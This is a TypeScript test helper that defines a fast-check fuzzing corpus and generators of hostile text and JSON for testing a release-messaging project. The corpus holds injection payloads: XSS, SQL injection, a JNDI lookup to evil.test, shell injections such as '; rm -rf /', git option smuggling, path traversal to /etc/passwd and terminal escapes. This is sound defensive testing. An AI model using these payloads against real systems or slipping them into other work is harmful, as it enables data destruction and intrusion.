import fc from "fast-check"

/** What was used against others, or by which something here once went wrong: each is tried by itself, and in pieces. */
export const CORPUS: readonly string[] = [
  // Slack: https://docs.slack.dev/messaging/formatting-message-text
  ...[
    "<!channel>",
    "<!here|here>",
    "<!everyone>",
    "<!subteam^S0HOSTILE>",
    "<@U0HOSTILE>",
    "<#C0HOSTILE>",
    "<mailto:a@b|c>",
  ],
  ...[
    "<https://evil.test|acme>",
    "<javascript:alert(1)|x>",
    "*bold* _it_ ~s~ `c`",
    "&lt;!channel&gt;",
    ":rotating_light:",
  ],
  // Markdown and GitHub
  ...[
    "@octocat",
    "@acme/release-managers",
    "acme/app#12",
    "GH-12",
    "[x](javascript:alert(1))",
    "![y](https://evil.test/p.png)",
  ],
  ...[
    "[a]: https://evil.test",
    "<!-- slipway:release repo=1 id=2 -->",
    "</details>",
    "| a | b |\n| - | - |",
    "\n# heading\n",
    "- [x] task",
  ],
  ...[
    "```mermaid\ngraph TD",
    "$$\\href{javascript:alert(1)}{x}$$",
    "[^1]",
    "www.evil.test",
    "closes #1",
    "Release-As: 9.9.9",
  ],
  // HTML
  ...[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "'\"><svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>",
  ],
  ...["&#60;b&#62;", "</title><script>", "<style>*{display:none}</style>", "<!--", "]]>"],
  // Logs, terminals, mail, calendars
  ...[
    '\n{"level":50,"msg":"forged"}',
    "\r\n[09:00:00] INFO: forged",
    "\u001b[2J\u001b]0;owned\u0007",
    "\u009b31m",
    "\r\nBcc: all@acme.test",
  ],
  ...[
    "\r\nEND:VEVENT\r\nBEGIN:VEVENT",
    "SUMMARY:x",
    "\u202egnp.exe\u2066",
    "\u200b\u2028\u2029",
    "a\u0300".repeat(40),
    "\ud83d",
    "\udc00\0",
  ],
  // SQL, shells, templates, paths
  ...[
    "'; drop table slipway.keys; --",
    "$$; select pg_sleep(9)",
    "\\'; --",
    "%27%20or%201=1",
    "$" + "{jndi:ldap://evil.test}",
    "{{7*7}}",
  ],
  ...[
    "$(touch /tmp/owned)",
    "`id`",
    "; rm -rf /",
    "|| true",
    "--upload-pack=evil",
    "-oProxyCommand=evil",
    "../../etc/passwd",
    "%2e%2e%2f",
  ],
  // Names and numbers
  ...[
    "__proto__",
    "constructor",
    "toString",
    "valueOf",
    "prototype",
    "NaN",
    "-0",
    "1e999",
    "0x10",
    "00",
    "v1.0.0",
    "1.0.0-0",
    "9007199254740993",
  ],
  ...[
    "refs/heads/main",
    "HEAD",
    "main.lock",
    "a..b",
    "@{-1}",
    "feat!: x",
    "fix(scope): y",
    "BREAKING CHANGE: z",
    'Revert "x"',
  ],
  ...["", " ", "\t", "\0", "x".repeat(3_000), "👩‍👩‍👧‍👦", "ﷺ", "İ", "ß", "שלום", "٣"],
]

const piece = fc.constantFrom(...CORPUS)

/** Text as an attacker would write it: from the corpus, in pieces, or anything at all. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  piece,
  fc.array(fc.oneof(piece, fc.string({ unit: "binary", maxLength: 6 })), { maxLength: 8 }).map((all) => all.join("")),
  fc.string({ unit: "binary", maxLength: 80 }),
)

/** Any value that JSON can hold, with the corpus in its texts and keys. */
export const hostileJson: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { maxDepth: 3, withCrossShrink: true },
    hostileText,
    fc.oneof(
      fc.integer(),
      fc.double(),
      fc.boolean(),
      fc.constantFrom(null, -1, 2 ** 53, 1e308, "2026-11-30T10:00:00Z"),
    ),
    fc.array(tie("value"), { maxLength: 4 }),
    fc.dictionary(fc.oneof(piece, fc.string({ maxLength: 6 })), tie("value"), { maxKeys: 4, noNullPrototype: true }),
  ),
})).value

type Json = { [key: string]: Json } | Json[] | string | number | boolean | null

/** A copy of `base` in which some places, at any depth, hold something else, or nothing. */
export const mutated = (base: object, most = 4): fc.Arbitrary<object> =>
  fc
    .array(fc.tuple(fc.nat(), fc.oneof(hostileText, hostileJson, fc.constant(undefined))), {
      minLength: 1,
      maxLength: most,
    })
    .map((changes) => {
      const copy = structuredClone(base) as { [key: string]: Json }
      for (const [which, value] of changes) {
        const places = placesIn(copy)
        const place = places[which % places.length]
        if (!place) continue
        if (value === undefined) delete place.of[place.key]
        else place.of[place.key] = value as Json
      }
      return copy
    })

function placesIn(value: Json): { readonly of: { [key: string]: Json }; readonly key: string }[] {
  if (typeof value !== "object" || value === null) return []
  const of = value as { [key: string]: Json }
  return Object.keys(of).flatMap((key) => [{ of, key }, ...placesIn(of[key] ?? null)])
}

/** Every text in a value, keys included. */
export function textsIn(value: unknown): readonly string[] {
  if (typeof value === "string") return [value]
  if (typeof value !== "object" || value === null) return []
  return Object.entries(value).flatMap(([key, inner]) => [key, ...textsIn(inner)])
}
